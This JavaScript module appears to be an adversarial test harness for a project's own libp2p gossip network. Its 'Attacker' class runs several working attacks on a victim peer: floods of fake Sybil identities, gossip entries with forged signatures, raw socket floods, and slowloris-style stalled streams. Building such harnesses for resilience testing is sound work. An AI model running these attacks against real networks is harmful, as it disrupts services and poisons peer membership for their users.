// One process that means no good. It speaks the protocol by hand, with the parts of the product below its public surface.
import { once } from "node:events";
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { generateKeyPair } from "@libp2p/crypto/keys";
import { peerIdFromPrivateKey } from "@libp2p/peer-id";
import { multiaddr } from "@multiformats/multiaddr";
import { createNotary } from "../../packages/net/dist/identity/notary.js";
import { decodeGreeting, encodeGreeting, requests, responses } from "../../packages/net/dist/libp2p/frames.js";
import { MESSAGE_BYTES, PROTOCOL } from "../../packages/net/dist/libp2p/limits.js";
import { createNode } from "../../packages/net/dist/libp2p/node.js";
import { checkOptions } from "../../packages/net/dist/libp2p/options.js";
import { digest, entrySeal, roomDigest } from "../../packages/net/dist/libp2p/proof.js";
import { Turnstile } from "../../packages/net/dist/libp2p/turnstile.js";
import { Wire } from "../../packages/net/dist/libp2p/wire.js";
import { signedBy } from "../../packages/net/dist/membership/codec.js";

const NOTHING = new Uint8Array();
const soon = (ms = 5000) => AbortSignal.timeout(ms);

export class Attacker {
  /** Connections made, those cut off, and for how long each stood. */
  made = 0;
  cut = 0;
  stood = [];
  #on = false;
  /** More at once are all too late. */
  #dials = new Turnstile(6);

  constructor({ where, agreement, room = "strangers" }) {
    this.where = where;
    this.digests = { room: roomDigest(room), agreement: digest(agreement) };
  }

  async begin() {
    this.seal = await entrySeal(null, this.digests);
    return { look: (question) => this.#look(question) };
  }

  async #look({ kind, ...more }) {
    if (kind === "stop") {
      this.#on = false;
      for (const { libp2p } of this.nodes ?? []) await libp2p.stop();
      this.nodes = [];
    } else if (kind !== "look") {
      this.#on = true;
      void this[kind](more).catch((error) => console.error(error));
    }
    const { made, cut, stood } = this;
    const names = new Set((this.nodes ?? []).concat(this.names ?? []).map(({ id }) => id)).size;
    return { made, cut, names, stood: [...stood].sort((a, b) => a - b) };
  }

  /** A name with a node of its own, which greets whoever calls it, swaps entries, and answers no exchange. */
  async #node(listen = []) {
    const { libp2p, key } = await createNode(checkOptions({ listen }), "stranger");
    await libp2p.handle(PROTOCOL, (stream) => void this.#answer(stream).catch(() => {}));
    return { libp2p, key, id: libp2p.peerId.toString() };
  }

  async #answer(stream) {
    const wire = new Wire(stream, MESSAGE_BYTES);
    await wire.read(soon());
    await wire.write([encodeGreeting({ kind: "welcome", nonce: new Uint8Array(32) })], soon());
    for (;;) {
      const { kind } = requests.decode(await wire.read(soon(60_000)));
      await wire.read(soon(60_000));
      if (kind === "gossip")
        await wire.write([responses.encode({ kind: "answer", news: await this.news() }), NOTHING], soon());
    }
  }

  async #greeted(node, to) {
    const connection = await this.#dials.pass(() => node.libp2p.dial(multiaddr(to), { signal: soon() }));
    this.made += 1;
    const from = performance.now();
    connection.addEventListener("close", () => {
      this.cut += 1;
      this.stood.push(performance.now() - from);
    });
    const wire = new Wire(await connection.newStream(PROTOCOL, { signal: soon() }), MESSAGE_BYTES);
    const hello = { kind: "hello", keyed: false, ...this.digests, nonce: new Uint8Array(32) };
    await wire.write([encodeGreeting(hello)], soon());
    decodeGreeting(await wire.read(soon()));
    return wire;
  }

  async #swap(wire, news) {
    await wire.write([requests.encode({ kind: "gossip", news }), NOTHING], soon());
    await wire.read(soon());
    await wire.read(soon());
  }

  async #name() {
    const key = await generateKeyPair("Ed25519");
    const id = peerIdFromPrivateKey(key).toString();
    return { id, notary: createNotary(id, key, this.seal) };
  }

  async #entry({ id, notary }, port = 5000) {
    this.beats = (this.beats ?? 0) + 1;
    const claim = { id, addresses: [`/ip4/${this.where}/tcp/${port}`], incarnation: 1, heartbeat: this.beats };
    return { entry: await signedBy(notary, { ...claim, serves: true, leaving: false }), ageMs: 0 };
  }

  /** Some of the names, each as fresh as can be. */
  async news(most = 31) {
    const from = Math.floor(Math.random() * this.names.length);
    const some = Array.from(
      { length: Math.min(most, this.names.length) },
      (_, k) => this.names[(from + k) % this.names.length],
    );
    return Promise.all(some.map((name) => this.#entry(name)));
  }

  /** So many names: told of over one connection to each victim, or each with a connection of its own. */
  async invade({ count, each, victims }) {
    this.names = [];
    this.nodes = [];
    while (!each && this.names.length < count - 1) this.names.push(await this.#name());
    for (let k = 0; k < (each ? count : 1) && this.#on; k++) {
      const made = await this.#node(k === 0 ? [`/ip4/${this.where}/tcp/5000`] : []);
      const node = { ...made, notary: createNotary(made.id, made.key, this.seal) };
      this.nodes.push(node);
      if (each) this.names.push(node);
      for (const to of victims) void this.#pester(node, to, each);
    }
  }

  /** Calls a victim under one name, again and again. */
  async #pester(node, to, each) {
    while (this.#on) {
      try {
        const wire = await this.#greeted(node, to);
        while (this.#on) {
          await this.#swap(wire, [await this.#entry(node), ...(await this.news(each ? 7 : 31))]);
          await sleep(each ? 5000 : 500);
        }
      } catch {
        // Cut off. It comes again.
      }
      await sleep(each ? 10_000 * (0.5 + Math.random()) : 500);
    }
  }

  /** Forged entries as fast as they go, over some lines at once; under a new identity whenever one is cut off. */
  async forge({ victim, lines, anew }) {
    const line = async () => {
      let node = await this.#node();
      while (this.#on) {
        try {
          const wire = await this.#greeted(node, victim);
          while (this.#on) {
            const made = await this.#name();
            const { entry, ageMs } = await this.#entry(made);
            const forged = { ageMs, entry: { ...entry, signature: crypto.getRandomValues(new Uint8Array(64)) } };
            await this.#swap(
              wire,
              Array.from({ length: 32 }, () => forged),
            );
          }
        } catch {
          await sleep(1);
          if (!anew) continue;
          await node.libp2p.stop();
          node = await this.#node();
        }
      }
      await node.libp2p.stop();
    };
    await Promise.all(Array.from({ length: lines }, line));
  }

  /** Bare sockets, as fast as they go. */
  async knock({ victim, lines }) {
    const [, , host, , port] = victim.split("/");
    const line = async () => {
      while (this.#on) {
        const socket = connect(Number(port), host);
        socket.on("error", () => {});
        socket.on("connect", () => {
          this.made += 1;
        });
        await once(socket, "close").catch(() => {});
      }
    };
    await Promise.all(Array.from({ length: lines }, line));
  }

  /** Bodies of the largest size that are begun and never ended. */
  async stall({ victim, connections, streams }) {
    this.nodes = [];
    const body = new Uint8Array(MESSAGE_BYTES - 1);
    const stuck = async (connection) => {
      const stream = await connection.newStream(PROTOCOL, { signal: soon() });
      const wire = new Wire(stream, MESSAGE_BYTES);
      const hello = { kind: "hello", keyed: false, ...this.digests, nonce: new Uint8Array(32) };
      await wire.write([encodeGreeting(hello)], soon());
      decodeGreeting(await wire.read(soon()));
      const header = requests.encode({ kind: "exchange", news: [] });
      // The header as it is; of the body the announced length, and all but the last byte.
      await wire.write([header], soon());
      stream.send(Uint8Array.of(0x80, 0x80, 0x80, 0x02));
      for (let at = 0; at < body.length && this.#on; at += 65_536) {
        if (!stream.send(body.subarray(at, at + 65_536))) await stream.onDrain({ signal: soon(60_000) });
      }
      await sleep(60_000);
    };
    await Promise.all(
      Array.from({ length: connections }, async () => {
        const node = await this.#node();
        this.nodes.push(node);
        while (this.#on) {
          try {
            const connection = await node.libp2p.dial(multiaddr(victim), { signal: soon() });
            this.made += 1;
            connection.addEventListener("close", () => {
              this.cut += 1;
            });
            const all = Array.from({ length: streams }, async () => {
              while (this.#on && connection.status === "open") await stuck(connection).catch(() => sleep(100));
            });
            await Promise.all(all);
          } catch {
            await sleep(200);
          }
        }
      }),
    );
  }
}
